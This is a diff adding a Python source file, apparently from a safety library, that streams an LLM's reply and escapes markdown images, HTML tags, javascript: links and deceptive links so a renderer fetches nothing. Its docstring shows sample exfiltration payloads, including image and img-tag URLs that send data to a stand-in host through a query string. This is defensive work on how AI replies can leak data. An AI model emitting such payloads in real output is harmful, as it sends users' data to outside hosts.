@@ -1,0 +1,332 @@
+r"""A filter for one running reply: what a renderer would fetch or run, and links that hide something, become plain text.
+
+    ![chart](https://evil.example/?d=…)      ->  !\[chart\](https://evil.example/?d=…)
+    <img src=https://evil.example/?d=…>      ->  &lt;img src=https://evil.example/?d=…>
+    [click](javascript:…)                    ->  [click\](javascript:…)
+
+Everything stays readable, and only a character before it tells. Code stays as it is, if it is code for sure (`blocks`): a fence,
+or a code span on one line. The text is read once, left to right; a decision needs at most `LONGEST` characters more, and only
+what begins like a tag, an image or the end of a link's text is held back until then.
+
+Sources: CommonMark 0.31 6.1 (code spans), 6.3 (links), 6.4 (images), 4.7 (definitions); THREATS O.1, O.2.
+"""
+
+# SPDX-License-Identifier: Apache-2.0
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, field
+from typing import Final
+
+from safellm._core.neutral.addresses import Judge, has_script
+from safellm._core.neutral.blocks import LONGEST_LINE, PREFIX, Blocks
+from safellm._core.neutral.tags import Verdict, judge_tag
+
+LONGEST: Final = 2048  # characters of an address that are looked at; a longer one is taken for the worst
+_LONGEST_SPAN: Final = 1000
+_LONGEST_NAME: Final = 300  # of an image or of a link's text that is compared with its address
+
+_SPECIAL = re.compile(r"[<\[\]]")
+_LINE_END = re.compile(r"\n|\r(?!\n)")
+_TOKEN = re.compile(r"[\\`<\[\]$]|\n|\r(?!\n)|-->")
+_RUN = re.compile(r"`+")
+_NAME = re.compile(r"\[[^\[\]\\`<\r\n]*+")
+_SPACE = re.compile(r"[ \t]*(?:\r?\n[ \t]*)?")
+_ADDRESS = re.compile(r"<([^<>\r\n]*+)(>?)|(\S*)")
+_CLOSED = re.compile(
+    r"[ \t]*(?:\r?\n[ \t]*)?(?:\"[^\"\\]*+\"|'[^'\\]*+'|\([^()\\]*+\))?[ \t]*(?:\r?\n[ \t]*)?\)"
+)
+_PUNCTUATION = frozenset("!\"#$%&'()*+,-./:;=>?@[\\]^_`{|}~")  # what a backslash may stand before, but for "<"
+# Decides for most texts that nothing is to be done: tags, images, addresses that aren't plain.
+_CANDIDATE = re.compile(r"<[A-Za-z/!?]|!\[|\](?=[(:])")
+_HARMLESS_TARGET = re.compile(r"\][(:]\s{0,4}(?:https?://[\w.\-]+(?:/[\w.\-/~]*)?(?:#[\w\-]{0,40})?|[\w.\-/#~]*)(?=[\s)])")
+_WAITS: Final = -1  # of a reader: only more text can tell
+
+
+def may_need(text: str) -> bool:
+    """Return whether a whole text holds anything that would be changed outside code; false is the usual, fast case."""
+    if "<" not in text and "](" not in text and "![" not in text and "]:" not in text:
+        return False
+    for found in _CANDIDATE.finditer(text):
+        if found[0] != "]":
+            return True
+        if _HARMLESS_TARGET.match(text, found.start()) is None:
+            return True
+    return False
+
+
+@dataclass(slots=True, kw_only=True)
+class LinkFilter:
+    """Makes one channel of text inert. `feed` any pieces, then `finish`; `changed` counts what was defanged.
+
+    Args:
+        judge: Decides about addresses.
+    """
+
+    judge: Judge
+    changed: int = 0
+    _text: str = ""  # from the first character that isn't read yet
+    _late: list[str] = field(default_factory=list)  # handed on, and not read yet either
+    _sent: int = 0  # how much of `_text` was handed on
+    _at: int = 0
+    _edits: list[tuple[int, int, str]] = field(default_factory=list)
+    _before: str = ""  # what was read last
+    _blocks: Blocks = field(default_factory=Blocks)
+    _begins: bool = True  # a line
+    _code: bool = False  # the line is code
+    _rest: int = _WAITS  # where the line's text begins
+    _plain: bool = False  # no code span is recognised up to the next blank line
+    _money: bool = False  # a dollar sign stands before: mathematics may begin there
+    _images: bool = False  # images by reference were seen, so a definition may make one of them load
+    _definitions: bool = False  # and the other way round
+
+    def feed(self, text: str) -> str:
+        """Return the text that is certain by now."""
+        if self._sent == len(self._text) and not _SPECIAL.search(text):
+            self._late.append(text)
+            return text
+        return self._run(text, last=False)
+
+    def finish(self) -> str:
+        """Return what was held back: the text is over."""
+        return self._run("", last=True) if self._sent < len(self._text) else ""
+
+    def _run(self, text: str, *, last: bool) -> str:
+        if self._late:
+            late = "".join(self._late)
+            self._late.clear()
+            self._text += late
+            self._sent += len(late)
+        self._text += text
+        self._walk(last=last)
+        certain = len(self._text)
+        if not last and self._at < certain:
+            held = _SPECIAL.search(self._text, max(self._at, self._sent))
+            certain = held.start() if held is not None else certain
+        out: list[str] = []
+        position = self._sent
+        for start, end, new in self._edits:
+            out += (self._text[position:start], new)
+            position = end
+        out.append(self._text[position:certain])
+        self._edits.clear()
+        self._before = (self._before + self._text[max(0, self._at - _LONGEST_NAME) : self._at])[-_LONGEST_NAME:]
+        self._text = self._text[self._at :]
+        self._sent = max(certain, self._at) - self._at
+        if self._rest >= 0:
+            self._rest = max(self._rest - self._at, _WAITS)
+        self._at = 0
+        return "".join(out)
+
+    def _walk(self, *, last: bool) -> None:
+        size = len(self._text)
+        while self._at < size:
+            if self._begins:
+                if not self._begin_line(last=last):
+                    return
+            elif self._code:
+                end = _LINE_END.search(self._text, self._at)
+                if end is None or (end[0] == "\r" and end.end() == size and not last):
+                    self._at = size if end is None else end.start()
+                    return
+                self._at, self._begins = end.end(), True
+            elif not self._step(last=last):
+                return
+
+    def _begin_line(self, *, last: bool) -> bool:
+        text, at = self._text, self._at
+        found = PREFIX.match(text, at, at + LONGEST_LINE)
+        rest = found.end() if found is not None else at
+        end = _LINE_END.search(text, at)
+        stop = end.start() if end is not None else len(text)
+        if end is not None and end[0] == "\r" and end.end() == len(text) and not last:
+            return False
+        known = end is not None or last
+        if not known and stop - at < LONGEST_LINE and (stop - rest < 3 or text[rest] in "`~"):  # noqa: PLR2004 - a fence has three
+            return False
+        known = known or text[rest : rest + 1] not in ("`", "~")
+        line = text[at:stop]
+        if line.endswith("\r"):
+            line = line[:-1]
+        self._code = self._blocks.line(line, min(rest - at, len(line)), complete=known)
+        if self._blocks.after_blank and not self._code:
+            self._plain = self._money = False
+        self._begins = False
+        self._rest = rest
+        if self._blocks.html:
+            self._plain = True
+        return True
+
+    def _step(self, *, last: bool) -> bool:
+        """Read up to and with the next character that says something; return whether reading can go on."""
+        text = self._text
+        found = _TOKEN.search(text, self._at)
+        if found is None:
+            kept = 2 if self._blocks.html == "-->" and not last else 1 if text.endswith("\r") and not last else 0
+            self._at = max(self._at, len(text) - kept)
+            return False
+        at, token = found.start(), found[0]
+        if found.end() == len(text) and not last and token != "\n":
+            self._at = at
+            return False
+        if token == "<":
+            after = self._tag(at, last=last)
+        elif token == "[":
+            after = self._image(at, last=last) if (text[at - 1 : at] or self._before[-1:]) == "!" else at + 1
+        elif token == "]":
+            after = self._closing(at, last=last)
+        elif token == "`":
+            after = self._backticks(at, last=last)
+        elif token == "\\":
+            after = at + 2 if text[at + 1 : at + 2] in _PUNCTUATION else at + 1
+        else:
+            self._begins = token in "\n\r"
+            self._money |= token == "$"
+            if token == "-->" and self._blocks.html == token:
+                self._blocks.end_html()
+            after = found.end()
+        self._at = at if after == _WAITS else min(after, len(text))
+        return after != _WAITS
+
+    def _edit(self, at: int, new: str) -> None:
+        self._edits.append((at, at + 1, new))
+
+    def _tag(self, at: int, *, last: bool) -> int:
+        text = self._text
+        following = text[at + 1 : at + 2]
+        if not (following.isascii() and following.isalpha()) and following not in ("/", "!", "?"):
+            return at + 1
+        starts = at == self._rest
+        if following in "!?":
+            if following == "!" and not last and "<!--".startswith(text[at : at + 4]) and len(text) - at < 4:  # noqa: PLR2004
+                return _WAITS
+            if not text.startswith("<!--", at) or self.judge.strict:
+                return self._escape_tag(at)
+            if starts and not self._blocks.html:
+                self._blocks.html = "-->"
+            self._plain = True
+            return at + 2
+        verdict, after = judge_tag(text, at, self.judge, last=last)
+        if verdict is Verdict.MORE:
+            return _WAITS
+        if verdict is Verdict.ESCAPE:
+            return self._escape_tag(at)
+        if text[at : at + 5].lower() == "</pre" and self._blocks.html == "</pre":
+            self._blocks.end_html()
+        if starts and not self._blocks.html and not text.startswith(("<http:", "<https:", "<mailto:"), at):
+            self._blocks.html = "</pre" if text[at : at + 4].lower() == "<pre" else "\n"
+            self._plain = True
+        return after
+
+    def _escape_tag(self, at: int) -> int:
+        self._edit(at, "&lt;")
+        self.changed += 1
+        return at + 1
+
+    def _backticks(self, at: int, *, last: bool) -> int:
+        text = self._text
+        run = _RUN.match(text, at)
+        begin = run.end() if run is not None else at + 1
+        if begin == len(text) and not last:
+            return _WAITS
+        if self._plain:
+            return begin
+        end = _LINE_END.search(text, begin, begin + _LONGEST_SPAN)
+        stop = end.start() if end is not None else min(len(text), begin + _LONGEST_SPAN)
+        for closing in _RUN.finditer(text, begin, stop):
+            if closing.end() == len(text) and not last:
+                break
+            if closing.end() - closing.start() == begin - at:
+                inside = text[begin : closing.start()]
+                if "|" in inside or (self._money and "$" in inside):
+                    break  # a table's cell may end there, or mathematics
+                return closing.end()
+        if end is None and stop - begin < _LONGEST_SPAN and not last:
+            return _WAITS
+        self._plain = True
+        return begin
+
+    def _image(self, at: int, *, last: bool) -> int:
+        text = self._text
+        found = _NAME.match(text, at, at + _LONGEST_NAME)
+        end = found.end() if found is not None else at + 1
+        if end >= len(text) - 1 and not last and end - at < _LONGEST_NAME:
+            return _WAITS
+        if end >= len(text):
+            return end  # nothing closes it any more
+        if text[end] != "]":
+            return self._defang(at)
+        if text[end + 1 : end + 2] == "(":
+            address, stop = self._address(end + 2, last=last)
+            if address is None:
+                return _WAITS
+            if stop >= 0 and self.judge.may_fetch(address):
+                closed = _CLOSED.match(text, stop, stop + LONGEST)
+                if closed is not None:
+                    return closed.end()
+                if not last and len(text) - stop < _LONGEST_NAME:
+                    return _WAITS
+        elif not self._definitions:
+            self._images = True
+            return end + 1
+        self._edit(at, "\\[")
+        self._edit(end, "\\]")
+        self.changed += 1
+        return end + 1
+
+    def _defang(self, at: int) -> int:
+        self._edit(at, f"\\{self._text[at]}")
+        self.changed += 1
+        return at + 1
+
+    def _closing(self, at: int, *, last: bool) -> int:
+        text = self._text
+        following = text[at + 1 : at + 2]
+        if following not in ("(", ":"):
+            return at + 1
+        address, stop = self._address(at + 2, last=last)
+        if address is None:
+            return _WAITS
+        name = (self._before + text[:at])[-_LONGEST_NAME:].rpartition("[")[2]
+        if following == "(":
+            return at + 2 if stop >= 0 and self.judge.may_link(address, name) else self._defang(at)
+        if has_script(address) and _looks_like_script(address):
+            return self._defang(at)
+        if "/" not in address and "\\" not in address and "&" not in address:
+            return at + 2  # prose: nothing would be fetched from elsewhere
+        hides = stop < 0 or not self.judge.may_link(address, name)
+        if hides or (self._images and not self.judge.may_fetch(address)):
+            return self._defang(at)
+        self._definitions |= not self.judge.may_fetch(address)
+        return at + 2
+
+    def _address(self, at: int, *, last: bool) -> tuple[str | None, int]:
+        """Return the address that begins here and where it ends, negative if it is too long; None if more text is needed."""
+        text = self._text
+        space = _SPACE.match(text, at)
+        begin = space.end() if space is not None else at
+        found = _ADDRESS.match(text, begin, begin + LONGEST)
+        if found is None:
+            return ("", begin) if last else (None, at)
+        end = found.end()
+        cut = end == len(text) and not last and end - begin < LONGEST
+        if found[3] is None:
+            if not found[2]:
+                return (None, at) if cut else (text[begin + 1 : end], _WAITS)
+            return found[1], end
+        depth = 0
+        for place in range(begin, end):
+            if text[place] == "(":
+                depth += 1
+            elif text[place] == ")":
+                depth -= 1
+                if depth < 0:
+                    return text[begin:place], place
+        if cut:
+            return None, at
+        return text[begin:end], _WAITS if end - begin >= LONGEST else end
+
+
+def _looks_like_script(address: str) -> bool:
+    """Return whether it is more than a word and a colon, as in "[Note]: warning: …"."""
+    return not address.endswith(":")
